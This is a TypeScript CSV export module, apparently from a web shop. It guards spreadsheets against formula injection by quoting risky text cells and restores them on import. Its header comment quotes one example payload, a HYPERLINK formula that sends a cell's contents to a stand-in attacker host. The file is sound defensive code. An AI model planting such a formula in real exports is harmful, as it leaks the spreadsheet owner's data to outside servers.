/**
 * The one CSV writer of every export (catalogue, orders, audit log), and the reading back of the text
 * cells it wrote.
 *
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which
 * some strip first) as a formula: a product named `=HYPERLINK("http://evil.example/?leak="&A2,"x")`
 * would hand the next cell to a stranger's server from the owner's own spreadsheet. So every text
 * cell that starts with one of those characters is written with a single quote in front (OWASP's
 * rule against CSV injection); spreadsheets show such a cell as text.
 *
 * The quote comes off again on import (`restoreCsvText`), so an export imported gives back the same
 * text. To keep that exact for text that itself starts with quotes, the rule is: a quote is put in
 * front of every text that starts with any number of quotes (zero or more) and then one of those
 * characters, and taken off every cell that starts with one or more quotes and then one of them.
 * `'Til dawn` is written and read as it is; `'=x` is written `''=x` and read back as `'=x`
 * (docs/decisions/027-catalogue-csv.md).
 *
 * Figures the shop computes itself (money, counts) are numbers, not text: `-1` in a stock column is a
 * number to a spreadsheet, never a formula, and is written as it is. The same `-1` as text (a
 * customer's name, say) gets the quote.
 */
import { stringify } from "csv-stringify/sync";

/** A text a spreadsheet could take for a formula, after any quotes the writer added. */
const FORMULA_AFTER_QUOTES = /^'*[=+\-@\t\r]/;
const QUOTED_FORMULA = /^'+[=+\-@\t\r]/;

/** A figure the shop computed, written as it is. */
export type CsvFigure = { readonly figure: string };

/** Text (a string), a figure (a finite number or `figure(…)`), or an empty cell. */
export type CsvCell = string | number | CsvFigure | null | undefined;

/** `figure(4500 / 100, 2)` is the cell `45.00`; `figure(-3)` is `-3`. */
export function figure(value: number, fractionDigits?: number): CsvFigure {
  if (!Number.isFinite(value)) throw new RangeError(`Not a finite number: ${value}`);
  return { figure: fractionDigits === undefined ? String(value) : value.toFixed(fractionDigits) };
}

/** The cell a text is written as: with a quote in front when a spreadsheet could run it. */
export function neutraliseCsvText(text: string) {
  return FORMULA_AFTER_QUOTES.test(text) ? `'${text}` : text;
}

/** The text a cell written by `neutraliseCsvText` holds (any other cell is its own text). */
export function restoreCsvText(cell: string) {
  return QUOTED_FORMULA.test(cell) ? cell.slice(1) : cell;
}

function cellText(cell: CsvCell): string {
  if (cell === null || cell === undefined) return "";
  if (typeof cell === "number") return figure(cell).figure;
  if (typeof cell === "string") return neutraliseCsvText(cell);
  return cell.figure;
}

/** Records as CSV lines (RFC 4180 quoting by csv-stringify), every text cell neutralised. */
export function csvLines(records: readonly (readonly CsvCell[])[]): string {
  return stringify(records.map((record) => record.map(cellText)));
}

/** An export's answer: `body` as a CSV attachment named `filename`, never cached or sniffed. */
export function csvDownload(body: BodyInit, filename: string) {
  return new Response(body, {
    headers: {
      "Content-Type": "text/csv; charset=utf-8",
      "Content-Disposition": `attachment; filename="${filename}"`,
      "Cache-Control": "private, no-store",
      "X-Content-Type-Options": "nosniff",
    },
  });
}
